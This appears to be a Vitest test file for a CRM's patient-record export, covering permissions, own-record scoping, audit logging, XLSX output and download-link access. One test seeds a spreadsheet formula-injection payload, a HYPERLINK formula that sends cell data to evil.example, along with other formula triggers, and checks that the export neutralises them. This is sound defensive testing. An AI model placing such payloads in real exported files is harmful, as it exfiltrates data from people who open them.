import { beforeEach, describe, expect, it } from 'vitest';
import { buildTestEnv, type TestEnv, type TestUser } from '../test-support/build-test-env.js';
import { buildPatient } from '../test-support/record-fixtures.js';
import { collectBody } from '../services/files/file-store.js';
import { exportLogPaths } from '../services/exports/export-log.js';
import type { TStartJobResponse, TGetExportDownloadResponse } from './export-schemas.js';
import type { TRecordResponse } from './schemas.js';

let env: TestEnv;

/** Changes one role's rights on one module, as an admin's permission editor would. */
async function grant(role: 'member' | 'admin', module: string, actions: string[]) {
  const doc = await env.store.get('crm_tenants/acme');
  const permissions = structuredClone(doc!.data.permissions as Record<string, Record<string, string[]>>);
  permissions[role] = { ...permissions[role], [module]: actions };
  await env.store.update('crm_tenants/acme', { permissions });
  env.services.configs.invalidate('acme');
}

async function createPatient(user: TestUser, overrides: Record<string, unknown>) {
  return (await env.call<TRecordResponse>(user, 'crmCreateRecord', { tenantId: 'acme', module: 'patients', data: buildPatient(overrides) })).record;
}

async function runExport(user: TestUser, request: Record<string, unknown>) {
  const { jobId } = await env.call<TStartJobResponse>(user, 'crmStartExport', { tenantId: 'acme', module: 'patients', format: 'formatted', fileType: 'csv', ...request });
  await env.services.jobs.whenIdle();
  const job = await env.services.jobs.get('acme', jobId);
  expect(job?.status, JSON.stringify(job?.error)).toBe('done');
  return { jobId, job: job!, file: job!.result!.file as string };
}

async function csvLines(path: string): Promise<string[]> {
  const body = (await collectBody(await env.services.files.read(path))).toString('utf8');
  expect(body.startsWith('\uFEFF')).toBe(true);
  return body.slice(1).split('\r\n').filter((line) => line !== '');
}

beforeEach(async () => {
  env = await buildTestEnv();
  await env.call(env.users.acmeOwner, 'crmSelectTemplate', { tenantId: 'acme', templateSlug: 'hospital' });
});

describe('crmStartExport', () => {
  it('refuses a member whose role has no export right, on the server', async () => {
    const error = await env.callError(env.users.acmeMember, 'crmStartExport', { tenantId: 'acme', module: 'patients', format: 'raw', fileType: 'csv' });
    expect(error.code).toBe('permission-denied');
    expect((error.details as { messageKey?: string }).messageKey).toBe('errors.record.forbidden.export');
    expect(await env.services.jobs.list('acme', { kind: 'export' })).toEqual([]);
  });

  it('exports the filtered view with its columns and neutralises formula cells', async () => {
    await createPatient(env.users.acmeAdmin, { patient_id: 'P-1', full_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', status: 'Active' });
    await createPatient(env.users.acmeAdmin, { patient_id: 'P-2', full_name: '+SUM(1,2)', status: 'Active' });
    await createPatient(env.users.acmeAdmin, { patient_id: 'P-3', full_name: 'Grace Hopper', status: 'New' });
    const { file, job } = await runExport(env.users.acmeAdmin, {
      view: { filters: [{ field: 'status', op: 'eq', value: 'Active' }], sort: 'number', direction: 'asc' },
      fields: ['full_name', 'status'],
    });
    const lines = await csvLines(file);
    expect(lines[0]).toBe('Number,Full Name,Status,Owner,Created,Updated');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toMatch(/^PAT-000001,"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Click""\)",Active,acme-admin,/);
    expect(lines[2]).toMatch(/^PAT-000002,"'\+SUM\(1,2\)",Active,/);
    expect(job.result).toMatchObject({ rows: 2, fileType: 'csv' });
    expect(job.progress.done).toBe(2);
  });

  it('exports only own records to a read_own role, and records who exported what', async () => {
    await grant('member', 'patients', ['create', 'read_own', 'update_own', 'export']);
    await createPatient(env.users.acmeMember, { patient_id: 'P-own', full_name: 'Mine' });
    await createPatient(env.users.acmeMember2, { patient_id: 'P-other', full_name: 'Theirs' });
    const { jobId, file } = await runExport(env.users.acmeMember, { format: 'raw' });
    const lines = await csvLines(file);
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('P-own');
    const log = await env.store.get(exportLogPaths.entry('acme', jobId));
    expect(log?.data).toMatchObject({ by: 'acme-member', module: 'patients', rows: 1, format: 'raw', fileType: 'csv', view: '{}' });
  });

  it('writes an XLSX workbook with typed cells', async () => {
    await createPatient(env.users.acmeAdmin, { patient_id: 'P-9', full_name: '@cmd', status: 'Active' });
    const { file } = await runExport(env.users.acmeAdmin, { fileType: 'xlsx', fields: ['patient_id', 'full_name'] });
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    const bytes = await collectBody(await env.services.files.read(file));
    await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Number', 'Patient ID', 'Full Name', 'Owner', 'Created', 'Updated']);
    expect(sheet.getRow(2).getCell(3).value).toBe(`'@cmd`);
    expect(sheet.rowCount).toBe(2);
  });

  it('refuses a view the list refuses before starting a job', async () => {
    const error = await env.callError(env.users.acmeAdmin, 'crmStartExport', {
      tenantId: 'acme', module: 'patients', format: 'raw', fileType: 'csv', view: { filters: [{ field: 'nope', op: 'eq', value: 1 }] },
    });
    expect(error.code).toBe('invalid-argument');
    expect(await env.services.jobs.list('acme', { kind: 'export' })).toEqual([]);
  });

  it('gives the download link to the user who exported, and to nobody else', async () => {
    await createPatient(env.users.acmeAdmin, { patient_id: 'P-5' });
    const { jobId } = await runExport(env.users.acmeAdmin, {});
    const link = await env.call<TGetExportDownloadResponse>(env.users.acmeAdmin, 'crmGetExportDownload', { tenantId: 'acme', jobId });
    expect(link).toMatchObject({ rows: 1, fileName: expect.stringMatching(/^patients-\d{8}-\d{4}\.csv$/) });
    expect(link.url).not.toBe('');
    expect((await env.callError(env.users.acmeOwner, 'crmGetExportDownload', { tenantId: 'acme', jobId })).code).toBe('not-found');
  });
});
